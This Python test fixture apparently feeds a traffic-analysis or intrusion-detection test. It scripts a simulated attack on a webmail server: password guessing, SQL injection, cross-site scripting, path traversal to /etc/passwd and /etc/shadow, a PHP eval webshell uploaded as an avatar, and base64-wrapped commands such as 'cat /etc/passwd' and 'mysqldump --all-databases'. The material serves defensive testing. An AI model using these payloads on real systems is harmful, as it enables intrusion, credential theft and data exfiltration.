"""What the intruder does to the web mail, request by request, with the server's answers."""

from __future__ import annotations

import base64
import hashlib
from collections.abc import Sequence
from dataclasses import dataclass
from urllib.parse import quote

from tests.traffic.case_scene import Scene

WEBSHELL = b"<?php @eval($_POST['z0']); ?>"
SHELL_NAME = "avatar.php"
SHELL_PATH = f"/webmail/uploads/{SHELL_NAME}"
COMMANDS = ("whoami", "id", "ls -la /var/www", "cat /etc/passwd", "mysqldump --all-databases")
_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
_BOUNDARY = "----formdata4711"


@dataclass(frozen=True)
class Attack:
    """What the report should say of one weakness: how often it was tried, and how often the answer tells of success."""

    category: str
    path: str
    parameter: str
    requests: int
    succeeded: int
    statuses: tuple[int, ...]


@dataclass(frozen=True)
class Exchange:
    """A request, whole, and its response."""

    request: bytes
    status: int
    body: bytes
    headers: tuple[str, ...] = ()

    def response(self) -> bytes:
        """The response, whole."""
        head = [f"HTTP/1.1 {self.status} {_REASONS[self.status]}", "Server: Apache", *self.headers]
        head += ["Content-Type: text/html; charset=utf-8", f"Content-Length: {len(self.body)}"]
        return "\r\n".join([*head, "", ""]).encode() + self.body


_REASONS = {200: "OK", 302: "Found", 403: "Forbidden", 404: "Not Found", 500: "Internal Server Error"}
_FAILED_LOGIN = b"<html><form>Wrong user name or password.</form></html>"
_PAGE = b"<html><table>" + b"<tr><td>message</td></tr>" * 60 + b"</table></html>"
_SQL_ERROR = (
    b"<b>Fatal error</b>: You have an error in your SQL syntax; check the manual that corresponds to your MySQL"
)


def get(host: str, target: str) -> bytes:
    """A request without a body."""
    return f"GET {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {_AGENT}\r\nAccept: */*\r\n\r\n".encode()


def post(host: str, target: str, body: bytes, content_type: str = "application/x-www-form-urlencoded") -> bytes:
    """A request with a body."""
    head = (
        f"POST {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {_AGENT}\r\nContent-Type: {content_type}\r\n"
        f"Content-Length: {len(body)}\r\n\r\n"
    )
    return head.encode() + body


def visit(scene: Scene, at: float, ends: tuple[str, str], exchanges: Sequence[Exchange]) -> float:
    """One connection to port 80 with these exchanges; returns when it ended."""
    talk = scene.talk(at, *ends, 80)
    for exchange in exchanges:
        talk.say(exchange.request)
        talk.pause(0.05)
        talk.hear(exchange.response())
        talk.pause(0.5)
    talk.close()
    return talk.at


def logins(host: str, user: str, wrong: Sequence[str], right: str) -> list[Exchange]:
    """Passwords guessed in the login form, the last one right; then the inbox."""
    tries = [Exchange(_login(host, user, password), 200, _FAILED_LOGIN) for password in wrong]
    cookie = "Set-Cookie: session=0123456789abcdef; HttpOnly"
    admitted = Exchange(_login(host, user, right), 302, b"", ("Location: /webmail/inbox", cookie))
    return [*tries, admitted, Exchange(get(host, "/webmail/inbox"), 200, _PAGE)]


def _login(host: str, user: str, password: str) -> bytes:
    return post(host, "/webmail/login", f"user={quote(user, safe='')}&password={quote(password)}&remember=1".encode())


def injections(host: str) -> list[Exchange]:
    """SQL into the search."""
    values = (
        ("1%27%20OR%20%271%27%3D%271", 200, _PAGE),
        ("1'", 500, _SQL_ERROR),
        ("1%20UNION%20ALL%20SELECT%20user%2Cpassword%20FROM%20accounts--%20-", 200, _PAGE),
        ("1%2527%2520AND%2520SLEEP(5)--%2520-", 403, b"<html>Forbidden</html>"),
    )
    return [
        Exchange(get(host, f"/webmail/search?folder=inbox&id={value}"), status, body) for value, status, body in values
    ]


def scripts(host: str) -> list[Exchange]:
    """Script into the form of a new message: reflected once, refused once."""
    script = "<script>alert(document.cookie)</script>"
    reflected = b"<html><input value='" + script.encode() + b"'></html>"
    image = quote('"><img src=x onerror=alert(1)>')
    return [
        Exchange(get(host, f"/webmail/compose?subject={quote(script)}"), 200, reflected),
        Exchange(get(host, f"/webmail/compose?subject={image}"), 403, b"<html>Forbidden</html>"),
    ]


def climbs(host: str) -> list[Exchange]:
    """Out of the directory of attachments."""
    passwd = b"root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
    return [
        Exchange(get(host, "/webmail/attachment?file=../../../../etc/passwd"), 200, passwd),
        Exchange(get(host, "/webmail/attachment?file=..%2f..%2f..%2f..%2fetc%2fshadow"), 403, b"Forbidden"),
    ]


def upload(host: str) -> list[Exchange]:
    """A webshell as a picture of the user."""
    part = (
        f'--{_BOUNDARY}\r\nContent-Disposition: form-data; name="avatar"; filename="{SHELL_NAME}"\r\n'
        "Content-Type: image/png\r\n\r\n"
    )
    body = part.encode() + WEBSHELL + f"\r\n--{_BOUNDARY}--\r\n".encode()
    kind = f"multipart/form-data; boundary={_BOUNDARY}"
    return [Exchange(post(host, "/webmail/upload", body, kind), 200, b'{"saved":"uploads/avatar.php"}')]


def commands(host: str) -> list[Exchange]:
    """What runs through the webshell: base64 of a script that puts its output between marks."""
    return [_command(host, command) for command in COMMANDS]


def _command(host: str, command: str) -> Exchange:
    script = f"@ini_set('display_errors','0');echo '->|';system('{command}');echo '|<-';"
    coded = quote(base64.b64encode(script.encode()).decode(), safe="")
    body = f"z0=eval(base64_decode($_POST[z1]));&z1={coded}".encode()
    output = b"->|www-data\nuid=33(www-data) gid=33(www-data) groups=33(www-data)\n|<-"
    return Exchange(post(host, SHELL_PATH, body), 200, output)


def attacks() -> tuple[Attack, ...]:
    """What the report should say of all these, in the order of time."""
    return (
        Attack("web.sqli", "/webmail/search", "id", 4, 2, (200, 500, 200, 403)),
        Attack("web.xss", "/webmail/compose", "subject", 2, 1, (200, 403)),
        Attack("web.traversal", "/webmail/attachment", "file", 2, 1, (200, 403)),
        Attack("web.webshell", "/webmail/upload", "avatar", 1, 1, (200,)),
        Attack("web.webshell", SHELL_PATH, "z0", len(COMMANDS), len(COMMANDS), (200,) * len(COMMANDS)),
    )


def shell_digest() -> str:
    """SHA-256 of the uploaded file."""
    return hashlib.sha256(WEBSHELL).hexdigest()
